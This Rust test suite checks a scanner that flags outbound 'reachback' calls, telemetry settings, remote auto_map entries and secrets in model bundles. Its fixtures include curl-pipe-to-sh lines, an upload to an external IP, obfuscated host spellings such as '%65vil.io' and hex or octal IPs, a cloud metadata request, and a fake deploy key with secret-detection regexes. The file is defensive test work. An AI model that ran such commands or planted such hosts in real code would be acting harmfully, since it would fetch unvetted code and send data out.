//! End-to-end tests of reachback as an attacker would write it, and of the precision cases
//! that must stay quiet, on the real binary; confidence in JSON and SARIF; gitleaks-format
//! rule files through `--rules` on scan, verify, admit and watch, and the policy setting.

mod gate_util;

use gate_util::{code, run, text, Env};
use serde_json::Value;
use std::path::Path;

fn scan_json(args: &[&str]) -> (i32, Value) {
    let mut all = vec!["scan"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["--format", "json"]);
    let o = run(&all);
    let v: Value = serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", text(&o)));
    (code(&o), v)
}

/// (rule, path, line) of every finding.
fn found(v: &Value) -> Vec<(String, String, Option<u64>)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["path"].as_str().unwrap().to_string(),
                f["line"].as_u64(),
            )
        })
        .collect()
}

fn write(p: &Path, d: &[u8]) {
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, d).unwrap();
}

/// Each URL spelling, one per file: found when external, quiet when the allow-list covers
/// the address it spells.
#[test]
fn every_host_spelling_both_ways() {
    // (file text, external rule, internal by `--allow-host 10.0.0.0/8 --allow-host fd00::/8
    // --allow-host bücher.de`)
    let cases: &[(&str, &str, bool)] = &[
        (
            "requests.post(\"http://8.8.8.8:8000/upload\")",
            "reachback.ip-url",
            false,
        ),
        ("u = 'http://10.0.0.1/x'", "reachback.ip-url", true),
        ("u = 'http://111.111.111.111/'", "reachback.ip-url", false),
        ("u = 'https://ccc.cc/a'", "reachback.url", false),
        ("u = 'http://134744072/'", "reachback.ip-url", false),
        ("u = 'http://167772161/'", "reachback.ip-url", true),
        ("u = 'http://0x08080808/'", "reachback.ip-url", false),
        ("u = 'http://0x0a000001/'", "reachback.ip-url", true),
        ("u = 'http://010.34.56.78/'", "reachback.ip-url", false),
        ("u = 'http://012.0.0.1/'", "reachback.ip-url", true),
        ("u = 'http://8.8.2056/'", "reachback.ip-url", false),
        ("u = 'http://10.1/'", "reachback.ip-url", true),
        ("u = 'http://[::ffff:8.8.8.8]/'", "reachback.ip-url", false),
        ("u = 'http://[::ffff:10.0.0.1]/'", "reachback.ip-url", true),
        (
            "u = 'http://[2001:4860:4860::8888]/'",
            "reachback.ip-url",
            false,
        ),
        ("u = 'http://[fd00::1]:8080/'", "reachback.ip-url", true),
        ("u = 'https://%65vil.io/x'", "reachback.url", false),
        ("u = 'https://b\u{fc}cher.de/'", "reachback.url", true),
        ("u = 'https://www.xn--bcher-kva.de/'", "reachback.url", true),
        (
            "HF_ENDPOINT=https://0x08080808",
            "reachback.hf-endpoint",
            false,
        ),
        (
            "HTTPS_PROXY=134744072:3128",
            "reachback.proxy-setting",
            false,
        ),
        ("HTTPS_PROXY=10.2.3.4:3128", "reachback.proxy-setting", true),
    ];
    let t = tempfile::tempdir().unwrap();
    for (i, (body, _, _)) in cases.iter().enumerate() {
        write(
            &t.path().join(format!("f{i:02}.txt")),
            format!("import x\n{body}\n").as_bytes(),
        );
    }
    let dir = t.path().to_str().unwrap();
    let (c, v) = scan_json(&[dir]);
    assert_eq!(c, 1);
    let all = found(&v);
    for (i, (body, rule, _)) in cases.iter().enumerate() {
        let want = (rule.to_string(), format!("f{i:02}.txt"), Some(2));
        assert!(all.contains(&want), "{body}: {want:?} not in {all:?}");
    }
    let (_, v) = scan_json(&[
        dir,
        "--allow-host",
        "10.0.0.0/8",
        "--allow-host",
        "fd00::/8",
        "--allow-host",
        "b\u{fc}cher.de",
    ]);
    let all = found(&v);
    for (i, (body, rule, internal)) in cases.iter().enumerate() {
        let hit = all
            .iter()
            .any(|(r, p, _)| r == rule && *p == format!("f{i:02}.txt"));
        assert_eq!(hit, !internal, "{body} with the allow-list: {all:?}");
    }
    // a bad allow-list entry is a usage error
    let o = run(&["scan", dir, "--allow-host", "10.0.0.0/33"]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("10.0.0.0/33"), "{}", text(&o));
}

/// Switches set off, calls to loopback / link-local / allowed hosts, licence URLs, and a
/// local `auto_map` reported once: quiet (or one finding), each beside its positive twin.
#[test]
fn precision_cases_stay_quiet_beside_their_positives() {
    let t = tempfile::tempdir().unwrap();
    let quiet = t.path().join("quiet");
    write(
        &quiet.join("settings.yaml"),
        b"telemetry:\n  enabled: false\nusage_stats:\n  enabled: false\nenv:\n  WANDB_MODE: offline\n  HF_HUB_OFFLINE: 1\n  DO_NOT_TRACK: 1\n",
    );
    write(&quiet.join("run.sh"), b"export WANDB_MODE=offline\nexport HF_HUB_OFFLINE=1\nexport DO_NOT_TRACK=1\ncurl -fsSL http://127.0.0.1:8000/i.sh | sh\n");
    write(
        &quiet.join("calls.py"),
        b"import requests, socket\nrequests.post(\"http://127.0.0.1:8000/upload\")\nrequests.get('http://169.254.169.254/latest/meta-data')\nrequests.get('http://[::1]:9000/')\ns = socket.create_connection((\"localhost\", 80))\nrequests.get(\"https://pypi.corp.lan/simple\")\n",
    );
    write(
        &quiet.join("LICENSE"),
        b"Apache License\nVersion 2.0, January 2004\nhttp://www.apache.org/licenses/\n\nSee https://vendor.io/legal for details.\n",
    );
    write(
        &quiet.join("lib.py"),
        b"# Copyright 2024 Vendor Inc.\n#\n# Licensed under the Apache License, Version 2.0 (the \"License\");\n# You may obtain a copy of the License at\n#\n#     http://www.apache.org/licenses/LICENSE-2.0\n# SPDX-License-Identifier: Apache-2.0\nx = 1\n",
    );
    let (c, v) = scan_json(&[quiet.to_str().unwrap(), "--allow-host", "corp.lan"]);
    assert_eq!((c, found(&v)), (0, vec![]), "{v}");

    let loud = t.path().join("loud");
    write(
        &loud.join("settings.yaml"),
        b"telemetry:\n  enabled: true\nenv:\n  WANDB_MODE: online\n  HF_HUB_OFFLINE: 0\n  DO_NOT_TRACK: 0\n",
    );
    write(
        &loud.join("calls.py"),
        b"import requests\nrequests.post(\"http://8.8.8.8:8000/upload\")\nr = requests.get(url)\n",
    );
    write(
        &loud.join("lib.py"),
        b"# Licensed under MIT\nENDPOINT = \"https://telemetry.vendor.io/v1\"\n",
    );
    write(
        &loud.join("license.py"),
        b"u = 'https://telemetry.vendor.io/v1'\n",
    );
    let (c, v) = scan_json(&[loud.to_str().unwrap()]);
    assert_eq!(c, 1);
    let all = found(&v);
    for want in [
        ("reachback.telemetry-enabled", "settings.yaml", 1),
        ("reachback.wandb-online", "settings.yaml", 4),
        ("reachback.hf-offline-disabled", "settings.yaml", 5),
        ("reachback.telemetry-enabled", "settings.yaml", 6),
        ("reachback.python-http", "calls.py", 2),
        ("reachback.python-http", "calls.py", 3),
        ("reachback.url", "lib.py", 2),
        ("reachback.url", "license.py", 1),
    ] {
        let w = (want.0.to_string(), want.1.to_string(), Some(want.2));
        assert!(all.contains(&w), "{w:?} not in {all:?}");
    }
    // the call with a named external target is sure; the one with a variable is not
    let conf = |line: u64| {
        v["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule"] == "reachback.python-http" && f["line"] == line)
            .map(|f| f["confidence"].clone())
    };
    assert_eq!(conf(2), Some(Value::from("high")));
    assert_eq!(conf(3), Some(Value::from("medium")));
}

#[test]
fn a_local_auto_map_is_one_finding() {
    let t = tempfile::tempdir().unwrap();
    write(
        &t.path().join("config.json"),
        br#"{
  "architectures": ["X"],
  "auto_map": {"AutoModel": "modeling_x.XModel"}
}
"#,
    );
    write(
        &t.path().join("tokenizer_config.json"),
        br#"{"auto_map": {"AutoTokenizer": "other/repo--tok.T"}}"#,
    );
    let (_, v) = scan_json(&[t.path().to_str().unwrap()]);
    let mut all = found(&v);
    all.sort();
    assert_eq!(
        all,
        vec![
            ("hf.auto-map".into(), "config.json".into(), Some(3)),
            (
                "hf.auto-map-remote".into(),
                "tokenizer_config.json".into(),
                Some(1)
            ),
        ],
        "{v}"
    );
}

/// SARIF: a `curl` that starts its line is reported on that line; confidence and rank.
#[test]
fn sarif_lines_confidence_and_rank() {
    let t = tempfile::tempdir().unwrap();
    write(
        &t.path().join("install.sh"),
        b"#!/bin/sh\nset -e\ncurl -fsSL https://get.vendor.sh/i | sh\n",
    );
    let o = run(&["scan", t.path().to_str().unwrap(), "--format", "sarif"]);
    assert_eq!(code(&o), 1, "{}", text(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let results = v["runs"][0]["results"].as_array().unwrap();
    assert!(results.len() >= 2, "{v}");
    for r in results {
        let rule = r["ruleId"].as_str().unwrap();
        assert_eq!(
            r["locations"][0]["physicalLocation"]["region"]["startLine"], 3,
            "{rule}"
        );
        assert!(
            ["high", "medium", "low"].contains(&r["properties"]["confidence"].as_str().unwrap())
        );
        assert!(r["rank"].as_f64().unwrap() > 0.0);
    }
    let pipe = results
        .iter()
        .find(|r| r["ruleId"] == "reachback.shell-pipe-exec")
        .unwrap();
    assert_eq!(pipe["properties"]["confidence"], "high");
    assert_eq!(pipe["rank"], 80.0);
}

/// A site's gitleaks configuration, written for this test.
const SITE_RULES: &str = r#"
title = "site"
[[rules]]
id = "acme-deploy-key"
description = "ACME deploy key"
regex = '''\b(acmd_[A-Za-z0-9]{24})\b'''
keywords = ["acmd_"]
[[rules.allowlists]]
stopwords = ["sample"]

[[rules]]
id = "keystore-file"
description = "Java keystore"
path = '''(?i)\.jks$'''
"#;

const KEY: &str = "acmd_Q8zr2Lp0Xw7Nk3Vb9Tm4Yc6U";

#[test]
fn rules_flag_on_scan_and_clear_errors() {
    let t = tempfile::tempdir().unwrap();
    let rules = t.path().join("site.toml");
    write(&rules, SITE_RULES.as_bytes());
    let tree = t.path().join("tree");
    write(
        &tree.join("a.env"),
        format!("x=1\nDEPLOY={KEY}\n").as_bytes(),
    );
    write(
        &tree.join("b.env"),
        b"DEPLOY=acmd_sampleXw7Nk3Vb9Tm4Yc6UQQ\n",
    );
    write(&tree.join("store.jks"), b"\xfe\xed\xfe\xed binary");
    let (c, v) = scan_json(&[tree.to_str().unwrap()]);
    assert_eq!((c, found(&v)), (0, vec![]), "without --rules: {v}");
    let (c, v) = scan_json(&[tree.to_str().unwrap(), "--rules", rules.to_str().unwrap()]);
    assert_eq!(c, 1);
    let mut all = found(&v);
    all.sort();
    assert_eq!(
        all,
        vec![
            ("acme-deploy-key".into(), "a.env".into(), Some(2)),
            ("keystore-file".into(), "store.jks".into(), None),
        ],
        "{v}"
    );
    // never the value itself
    assert!(!v.to_string().contains(KEY));

    // a regex Rust's regex crate cannot compile: exit 2, naming the rule
    let bad = t.path().join("bad.toml");
    write(
        &bad,
        b"[[rules]]\nid = \"lookbehind-key\"\nregex = '''(?<=key=)[a-z0-9]{32}'''\nkeywords = [\"key=\"]\n",
    );
    let o = run(&[
        "scan",
        tree.to_str().unwrap(),
        "--rules",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("lookbehind-key"), "{}", text(&o));
    // an id that would replace a built-in rule is refused
    let clash = t.path().join("clash.toml");
    write(
        &clash,
        b"[[rules]]\nid = \"secret.github-pat\"\nregex = '''ghp_[A-Za-z0-9]{36}'''\n",
    );
    let o = run(&[
        "scan",
        tree.to_str().unwrap(),
        "--rules",
        clash.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("secret.github-pat"), "{}", text(&o));
    // a missing file
    let o = run(&[
        "scan",
        tree.to_str().unwrap(),
        "--rules",
        "/nonexistent/rules.toml",
    ]);
    assert_eq!(code(&o), 2, "{}", text(&o));
}

#[test]
fn rules_on_verify_admit_watch_and_in_the_policy() {
    let env = Env::new("");
    let rules = env.path().join("site.toml");
    write(&rules, SITE_RULES.as_bytes());
    let r = rules.to_str().unwrap();
    let bundle = env.bundle(
        "m",
        "1.0.0",
        &[("deploy.env", format!("DEPLOY={KEY}\n").into_bytes())],
        true,
    );
    let b = bundle.to_str().unwrap();
    let policy = env.path().join("policy.toml");
    let p = policy.to_str().unwrap();
    // verify: accepted without the site's rules, rejected with them
    let o = run(&["verify", b, "--policy", p]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let o = run(&["verify", b, "--policy", p, "--rules", r, "--format", "json"]);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert!(text(&o).contains("acme-deploy-key"), "{}", text(&o));
    // admit: quarantined with them
    let o = run(&["admit", b, "--gate", env.gate_s(), "--rules", r]);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert_eq!(env.quarantined().len(), 1);
    // watch --once: the same
    let other = env.bundle(
        "n",
        "1.0.0",
        &[("deploy.env", format!("DEPLOY={KEY}\n").into_bytes())],
        true,
    );
    env.drop_in(&other);
    let o = run(&["watch", "--gate", env.gate_s(), "--once", "--rules", r]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("quarantined"), "{}", text(&o));
    assert_eq!(env.quarantined().len(), 2);
    // the policy setting, relative to the policy file
    let pol = env.path().join("site-policy.toml");
    std::fs::write(
        &pol,
        format!(
            "{}\n[inspect]\nrule_files = [\"site.toml\"]\n",
            std::fs::read_to_string(&policy).unwrap()
        ),
    )
    .unwrap();
    let o = run(&["verify", b, "--policy", pol.to_str().unwrap()]);
    assert_eq!(code(&o), 1, "{}", text(&o));
    assert!(text(&o).contains("acme-deploy-key"), "{}", text(&o));
}
